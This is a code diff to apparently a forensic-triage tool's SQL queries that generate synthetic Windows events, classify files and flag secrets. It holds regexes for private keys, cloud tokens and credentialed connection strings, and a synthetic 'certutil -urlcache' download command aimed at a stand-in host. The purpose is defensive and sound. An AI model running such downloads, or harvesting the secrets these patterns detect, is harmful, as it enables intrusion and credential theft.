@@ -332,7 +332,7 @@ found AS (
   SELECT DISTINCT doc_id, text, type, regexp_replace(v, '[.,;:)\]}"'']+$', '') AS value FROM hit),
 oct AS (
   SELECT *, CASE WHEN type = 'ipv4' THEN list_transform(string_split(value, '.'),
-    x -> CAST(x AS INTEGER)) END AS o FROM found WHERE value <> '' AND length(value) <= 500),
+    lambda x: CAST(x AS INTEGER)) END AS o FROM found WHERE value <> '' AND length(value) <= 500),
 ok AS (
   SELECT *, CASE WHEN type = 'ipv4' THEN (o[1] * 16777216 + o[2] * 65536 + o[3] * 256 + o[4]) END AS n
   FROM oct WHERE CASE type
@@ -368,6 +368,27 @@ SQL["indicator_counts"] = f"""WITH {_FANG} SELECT type, count(*) AS n
   FROM (SELECT DISTINCT type, value FROM ind) GROUP BY 1"""
 
 # --- text ---
+_SHELL = r"(?m)^(?:sudo |cd |ls|cat |curl |wget |vi |nano |apt |systemctl |mongo)"
+SQL["classify_documents"] = rf"""
+WITH t AS (
+  SELECT doc_id, text, source,
+    regexp_matches(text, '-----BEGIN (?:RSA |OPENSSH |EC |DSA |ENCRYPTED )?PRIVATE KEY') AS pk,
+    regexp_matches(text, 'AKIA[0-9A-Z]{{16}}|aws_secret_access_key|ASIA[0-9A-Z]{{16}}|(?:mongodb|postgres(?:ql)?|mysql|redis|amqp)(?:\+srv)?://[^\s:@/]+:[^\s@/]+@|xox[baprs]-[0-9A-Za-z-]{{10,}}|gh[pousr]_[0-9A-Za-z]{{30,}}') AS sec,
+    regexp_matches(text, 'Failed password for|Accepted password for|Accepted publickey for|authentication failure|session opened for user|session closed for user|Invalid user |invalid user |pam_unix\(|Failed keyboard-interactive|Connection closed by authenticating user') AS au,
+    regexp_matches(text, '"(?:GET|POST|HEAD|PUT|DELETE|OPTIONS) [^"]+ HTTP/\d') AS web,
+    len(regexp_extract_all(text, '{_SHELL}')) AS sh,
+    list_filter(string_split(text, chr(10)), lambda l: regexp_matches(l, '\S')) AS ls
+  FROM documents),
+k AS (
+  SELECT doc_id, CASE WHEN pk THEN 'Contains a PRIVATE KEY' WHEN sec THEN 'Contains a credential or connection secret'
+    WHEN au THEN 'Authentication records' WHEN web THEN 'Web server access log'
+    WHEN len(ls) > 0 AND len(list_filter(ls[1:20], lambda l: NOT (starts_with(l, '/') AND NOT contains(trim(l), ' ')))) = 0
+      THEN 'List of filesystem paths'
+    WHEN len(ls) > 3 AND sh >= 3 THEN 'Looks like a list of shell commands' ELSE '' END AS label FROM t)
+SELECT doc_id, CASE label WHEN 'Authentication records' THEN 'auth' WHEN 'Web server access log' THEN 'web_access'
+    WHEN 'List of filesystem paths' THEN 'path_list' WHEN 'Looks like a list of shell commands' THEN 'commands'
+    WHEN '' THEN '' ELSE 'credentials' END AS kind, label,
+  CASE WHEN label LIKE 'Contains%' THEN 'med' ELSE 'info' END AS severity FROM k"""
 SQL["questions"] = r"""
 WITH q AS (SELECT doc_id, replace(text, '. ', '?' || chr(10)) AS t FROM documents),
 n AS (SELECT doc_id, t, regexp_extract_all(t, '(?im)^\s*(?:\d+|Q\d+|Task\s*\d+)[\).:\-]?\s*(.+\?)\s*$', 1) AS num,
@@ -665,21 +686,73 @@ SQL["config_services"] = (
     f"WITH {_SERVICES} SELECT path, event_type, severity, title, details, why, attck FROM svc"
 )
 SQL["config_events"] = (
-    f"WITH {_ACCOUNTS.replace('customer WHERE c_custkey > 0', 'customer')}, {_SERVICES.strip()} "
+    f"WITH {_SERVICES.strip()}, pl AS ({SQL['config_preload']}) "
     "SELECT event_type, severity, CASE WHEN severity IN ('info', 'low') THEN 'config' ELSE 'config suspicious' END AS tags, "
-    "count(*) AS n FROM (SELECT event_type, severity FROM whole UNION ALL SELECT event_type, severity FROM svc) GROUP BY 1, 2, 3"
+    "count(*) AS n FROM (SELECT event_type, severity FROM pl UNION ALL SELECT event_type, severity FROM svc) GROUP BY 1, 2, 3"
 )
 _WIN = _FACTS + r""",
-wn AS (SELECT *, 'u' || user_id AS u, 'svchost' AS z FROM f),
-we AS (
-  SELECT event_id, us, k, user_id, u, event_type AS kind,
-    CASE event_type WHEN 'click' THEN 'process_created' WHEN 'error' THEN 'logon_failed' WHEN 'purchase' THEN 'service_installed'
-      WHEN 'signup' THEN 'scheduled_task_created' ELSE 'windows_event' END AS event_type,
-    CASE k % 4 WHEN 0 THEN 'C:\Users\' || u || '\AppData\Local\qXzRt7Kp\node.exe'
-      WHEN 1 THEN 'C:\Users\' || u || '\AppData\Local\Vendor\tool' || k || '.exe' WHEN 2 THEN 'C:\Windows\System32\whoami.exe'
-      ELSE 'C:\Program Files\Office\winword.exe' END AS image,
+w0 AS (
+  SELECT *, 'u' || user_id AS u, CASE k % 4 WHEN 0 THEN 'C:\Users\u' || user_id || '\AppData\Local\qXzRt7Kp\node.exe'
+      WHEN 1 THEN 'C:\Users\u' || user_id || '\AppData\Local\Vendor\tool' || k || '.exe'
+      WHEN 2 THEN 'C:\Windows\System32\whoami.exe' ELSE 'C:\Program Files\Office\winword.exe' END AS image,
     CASE WHEN k % 3 = 0 THEN 'C:\Windows\System32\cmd.exe' ELSE 'C:\Windows\explorer.exe' END AS parent,
-    k % 5 = 0 AS cert FROM wn)"""
+    event_type = 'click' AND k % 5 = 0 AS cert, event_type = 'click' AND k % 4 < 2 AS own,
+    event_type = 'click' AND k % 4 < 2 AND k % 3 = 0 AS dropper, event_type = 'click' AND k % 4 = 2 AS who,
+    event_type = 'purchase' AND k % 3 = 0 AS churn FROM f),
+w1 AS (
+  SELECT *, CASE event_type WHEN 'click' THEN 'process_created' WHEN 'error' THEN 'logon_failed'
+      WHEN 'purchase' THEN 'service_installed' WHEN 'signup' THEN 'scheduled_task_created' ELSE 'windows_event' END AS kind,
+    CASE event_type
+      WHEN 'click' THEN CASE WHEN k % 4 = 0 OR dropper OR cert THEN 'high' WHEN k % 4 = 1 THEN 'med' WHEN who THEN 'low' ELSE 'info' END
+      WHEN 'purchase' THEN CASE k % 3 WHEN 0 THEN 'info' WHEN 1 THEN 'crit' ELSE 'high' END
+      WHEN 'signup' THEN CASE k % 2 WHEN 0 THEN 'low' ELSE 'high' END ELSE 'info' END AS severity,
+    CASE event_type WHEN 'purchase' THEN 'Service Control Manager' WHEN 'view' THEN 'Acme-Agent-' || (k % 2)
+      ELSE 'Microsoft-Windows-Security-Auditing' END AS prov,
+    strftime(ts, '%Y-%m-%dT%H:%M:%S.%f') || 'Z' AS iso FROM w0),
+w2 AS (
+  SELECT *, CASE event_type
+    WHEN 'click' THEN 'SubjectUserName: ' || u || CASE WHEN cert THEN ' ¦ CommandLine: certutil -urlcache -f http://h/' || k ELSE '' END ||
+      ' ¦ NewProcessName: ' || image || ' ¦ ParentProcessName: ' || parent
+    WHEN 'error' THEN 'TargetUserName: ' || u || ' ¦ IpAddress: ::ffff:10.2.0.' || k || ' ¦ Status: 0xC000006A (bad password) ¦ LogonType: 3 (Network)'
+    WHEN 'purchase' THEN 'ImagePath: ' || CASE k % 3 WHEN 0 THEN 'C:\Windows\System32\svchost.exe -k UnistackSvcGroup'
+        WHEN 1 THEN 'C:\ProgramData\Stuff\run.exe' ELSE 'C:\Tools\agent.exe' END || ' ¦ ServiceName: ' ||
+        CASE k % 3 WHEN 0 THEN 'cdpsvc_' || lower(to_hex(k + 65536)) ELSE 'svc' || k END
+    WHEN 'signup' THEN 'SubjectUserName: ' || u || ' ¦ TaskName: ' || CASE k % 2 WHEN 0 THEN '\Microsoft\Windows\Defrag\Job' ELSE '\Backup' || k END
+    ELSE 'Hashes: MD5=' || upper(md5(CAST(k AS VARCHAR))) || ',X=1 ¦ param2: ' || k || ' ¦ param10: ten' END ||
+    ' ¦ Provider_Name: ' || prov || ' ¦ TimeCreated_SystemTime: ' || iso AS details FROM w1)"""
+SQL["windows_events"] = f"""WITH {_WIN}
+SELECT (event_id + 1) * 8 AS id, us AS ts_epoch, kind AS event_type, severity, 'PC' || (user_id % 9) AS host,
+  CASE WHEN event_type IN ('click', 'error', 'signup') THEN u ELSE '' END AS "user",
+  CASE event_type WHEN 'purchase' THEN 'System' WHEN 'view' THEN 'Acme/Operational' ELSE 'Security' END AS channel,
+  CAST(event_id AS VARCHAR) AS record_id,
+  concat_ws(' ',
+    CASE WHEN own THEN 'unusual_exec_path' END, CASE WHEN dropper THEN 'script_host_dropper' END, CASE WHEN who THEN 'recon' END,
+    CASE WHEN event_type = 'purchase' THEN CASE k % 3 WHEN 0 THEN 'os_churn' ELSE 'unusual_exec_path' END END,
+    CASE WHEN event_type = 'signup' AND k % 2 = 0 THEN 'routine_vendor' END,
+    CASE WHEN event_type = 'click' AND severity = 'high' THEN 'suspicious' END, 'auto_fields') AS tags,
+  concat_ws(' ', CASE event_type WHEN 'click' THEN 'T1059' WHEN 'error' THEN 'T1110' WHEN 'purchase' THEN 'T1543.003' WHEN 'signup' THEN 'T1053.005' END,
+    CASE WHEN cert THEN 'T1140' END, CASE WHEN who THEN 'T1087' END, CASE WHEN own AND k % 4 = 0 THEN 'T1036' END) AS attck,
+  coalesce(CASE event_type
+    WHEN 'click' THEN concat_ws('; ', CASE WHEN own AND k % 4 = 0 THEN 'runs from a user-writable path under a machine-generated name (qXzRt7Kp)'
+        WHEN own THEN 'runs from a user-writable path' END,
+      CASE WHEN dropper THEN 'cmd.exe launched a binary from a user-writable path' END,
+      CASE WHEN who THEN 'host recon: account enumeration' END)
+    WHEN 'purchase' THEN CASE k % 3 WHEN 0 THEN 'per-user svchost instance Windows creates at every logon (cdpsvc_*)'
+      WHEN 1 THEN 'service image is in a user-writable path' ELSE 'service image is outside the usual install roots' END
+    WHEN 'signup' THEN CASE k % 2 WHEN 0 THEN 'task is in a vendor or Microsoft task path' ELSE 'task created outside the known vendor paths' END END, '') AS why,
+  details,
+  CASE WHEN event_type = 'error' THEN '10.2.0.' || k ELSE '' END AS ip_address,
+  CASE WHEN event_type = 'view' THEN md5(CAST(k AS VARCHAR)) ELSE '' END AS md5,
+  'EventID ' || CASE event_type WHEN 'click' THEN '4688' WHEN 'error' THEN '4625' WHEN 'purchase' THEN '7045' WHEN 'signup' THEN '4698'
+    ELSE CAST(k % 3 + 100 AS VARCHAR) END || ' — ' || CASE event_type WHEN 'purchase' THEN 'Service Control Manager'
+    WHEN 'view' THEN 'Acme-Agent-' || (k % 2) ELSE 'Microsoft-Windows-Security-Auditing' END || ' (no template)' AS title,
+  CASE WHEN event_type = 'purchase' THEN 'evtx/System' ELSE 'evtx/Security' END AS source_artifact FROM w2"""
+SQL["windows_templates"] = f"""WITH {_WIN}
+SELECT (event_id + 1) * 8 AS id, 'Logon failed' AS title, 'TgtUser: ' || u || ' ¦ SrcIP: 10.2.0.' || k || ' ¦ Why: 0xC000006A (bad password)' AS details,
+  'LogonType: 3 (Network) ¦ Provider_Name: ' || prov || ' ¦ TimeCreated_SystemTime: ' || iso AS extra_fields, '' AS tags
+FROM w2 WHERE event_type = 'error'"""
+SQL["detail_labels"] = f"""WITH {_WIN}
+SELECT regexp_extract(p, '^[^:]*', 0) AS label, count(*) AS n FROM (SELECT unnest(string_split(details, ' ¦ ')) AS p FROM w2) GROUP BY 1"""
 SQL["registry_hives"] = """
 SELECT '/case/p' || q || '/config/HIVE' AS artifact_path, '2024-02-01 00:00:00' AS ts, 'HIVE: ' || h || ' hive ingested' AS message
 FROM (SELECT DISTINCT p_partkey % 4 AS q, CASE p_partkey % 8 WHEN 0 THEN 'software' WHEN 4 THEN 'ntuser' WHEN 5 THEN 'ntuser'
@@ -716,20 +789,44 @@ SELECT '-05:00' AS zone, 'registry ActiveTimeBias (UTC-05:00)' AS zone_source, '
   'registry ComputerName' AS host_source, CAST(year(make_timestamp(greatest(1704067200 + max(p_partkey) * 60, 1706745600) * 1000000)) AS BIGINT) AS year,
   'latest event in artifacts with absolute timestamps' AS year_source, 0 AS notes FROM part"""
 
-# --- files ---
-_STATUS = _FILES + """,
+# --- files: kind from the first 512 bytes ---
+_KINDS = _FILES + """,
+head AS (
+  SELECT path, content, body, octet_length(content) AS size, least(512, octet_length(content)) AS n,
+    list_sum(list_transform(range(1, least(512, octet_length(content)) + 1), lambda i: CASE WHEN
+      hex(content[i:i]) BETWEEN '20' AND '7E' OR hex(content[i:i]) BETWEEN '09' AND '0D' THEN 1 ELSE 0 END)) AS good
+  FROM files),
+ki AS (
+  SELECT *, CASE WHEN path LIKE '%.bin' THEN 'elf' WHEN size = 0 THEN 'empty'
+    WHEN good / n > 0.85 THEN 'text' ELSE 'binary' END AS kind FROM head),
 st AS (
-  SELECT path, octet_length(content) AS size, CASE WHEN path LIKE '%.pem' OR path LIKE '%.bin' THEN 'unsupported' ELSE 'parsed' END AS status,
-    CASE WHEN path LIKE '%.pem' OR path LIKE '%.bin' THEN 0 ELSE octet_length(content) % 3 + 1 END AS event_count FROM files)"""
-SQL["artifact_status"] = f"WITH {_STATUS} SELECT path, status, event_count FROM st"
-SQL["sweepings"] = f"""WITH {_STATUS} SELECT count(*) FILTER (path LIKE '%.pem') AS sweepings,
-  count(*) FILTER (path NOT LIKE '%.pem') AS gaps FROM st WHERE status = 'unsupported'"""
-SQL["not_parsed_by_type"] = f"""WITH {_STATUS} SELECT '.bin' AS extension, count(*) AS files, max(size) AS largest FROM st
-  WHERE path LIKE '%.bin' HAVING count(*) > 0"""
-SQL["largest_unparsed"] = f"""WITH {_STATUS} SELECT regexp_extract(path, '[^/]*$', 0) AS name, size, status FROM st
-  WHERE path LIKE '%.bin' AND size > 1000 ORDER BY size DESC, name LIMIT 8"""
-SQL["top_artifacts"] = f"""WITH {_STATUS} SELECT path, event_count FROM st WHERE status = 'parsed'
+  SELECT *, CASE WHEN path LIKE '%bash_history' THEN 'shell_history' WHEN path LIKE '%/passwd' THEN 'linux_config'
+      WHEN path LIKE '%auth.log.%' THEN 'linux_syslog' WHEN path LIKE '%.pem' THEN '' WHEN kind = 'text' THEN 'generic_text'
+      ELSE '' END AS parser FROM ki),
+sx AS (
+  SELECT *, CASE parser WHEN 'shell_history' THEN 0.85 WHEN 'linux_config' THEN 0.75 WHEN 'linux_syslog' THEN 0.7
+    WHEN 'generic_text' THEN 0.2 ELSE 0.0 END AS confidence,
+    CASE WHEN parser = '' THEN 'unsupported' ELSE 'parsed' END AS status,
+    CASE WHEN parser = '' THEN 0 ELSE size % 3 + 1 END AS event_count FROM st)"""
+SQL["inventory"] = f"WITH {_KINDS} SELECT path, sha256(content) AS sha256, kind, size FROM sx"
+SQL["route"] = f"WITH {_KINDS} SELECT path, parser, confidence FROM sx"
+SQL["event_files"] = f"WITH {_KINDS} SELECT kind, count(*) AS n, CAST(sum(size) AS BIGINT) AS bytes FROM sx GROUP BY 1"
+SQL["artifact_status"] = f"WITH {_KINDS} SELECT path, status, event_count FROM sx"
+SQL["sweepings"] = f"""WITH {_KINDS} SELECT count(*) FILTER (path LIKE '%.pem') AS sweepings,
+  count(*) FILTER (path NOT LIKE '%.pem') AS gaps FROM sx WHERE status = 'unsupported'"""
+SQL["not_parsed_by_type"] = f"""WITH {_KINDS} SELECT '.' || regexp_extract(path, '[^.]*$', 0) AS extension,
+  count(*) AS files, max(size) AS largest FROM sx WHERE status = 'unsupported' AND path NOT LIKE '%.pem' GROUP BY 1"""
+SQL["largest_unparsed"] = f"""WITH {_KINDS} SELECT regexp_extract(path, '[^/]*$', 0) AS name, size, status FROM sx
+  WHERE status = 'unsupported' AND path NOT LIKE '%.pem' AND size > 1000 ORDER BY size DESC, name LIMIT 8"""
+SQL["top_artifacts"] = f"""WITH {_KINDS} SELECT path, event_count FROM sx WHERE status = 'parsed'
   ORDER BY event_count DESC, path LIMIT 20"""
+SQL["case_summary"] = f"""WITH {_KINDS}, {_HITS.strip()}, {_FANG.strip()},
+tab AS (SELECT type, value, arg_min(tags, doc_id) AS tags FROM ind GROUP BY 1, 2)
+SELECT (SELECT count(*) FROM sx WHERE status = 'parsed') AS parsed,
+  (SELECT count(*) FROM sx WHERE status = 'unsupported') AS unsupported, 0 AS errors,
+  (SELECT count(*) FROM ev) AS events, (SELECT count(*) FROM ev WHERE sev_rank >= 3) AS high_events,
+  (SELECT count(*) FROM h) AS detections, (SELECT count(*) FROM tab) AS indicators,
+  (SELECT count(*) FROM tab WHERE NOT regexp_matches(tags, 'private|allowlisted|loopback|reserved')) AS interesting_indicators"""
 
 # --- context and answers ---
 SQL["activity_window"] = app("""
@@ -749,6 +846,11 @@ SELECT event_type AS answer, count(*) AS n, min(us) AS first_at, arg_min(event_i
     ELSE greatest(0.45, 1.0 - ((SELECT count(DISTINCT event_type) FROM f) - 1) * 0.12) END), 2) AS confidence
 FROM f GROUP BY 1 ORDER BY first_at, first_id LIMIT 5""")
 
+SQL["indicator_allowlist"] = r"""
+WITH u AS (SELECT page_id, regexp_replace(regexp_extract(url, '(?i)\b(?:https?|ftps?)://[^\s"''<>\\)\]}]+', 0), '[.,;:)\]}"'']+$', '') AS value FROM pages)
+SELECT page_id, 'url' AS type, value, CASE WHEN EXISTS (SELECT 1 FROM pages WHERE contains(url, 'example.com')) AND
+  regexp_matches(lower(value), '^[a-z]+://([^/:?#]*\.)?example\.com([/:?#]|$)') THEN 'allowlisted' ELSE '' END AS tags FROM u WHERE value <> ''"""
+
 # --- exports ---
 SQL["timeline_rows"] = app("""
 SELECT tst AS "Timestamp", severity AS "Level", title AS "Title", host AS "Host", channel AS "Channel", eid AS "EventID",
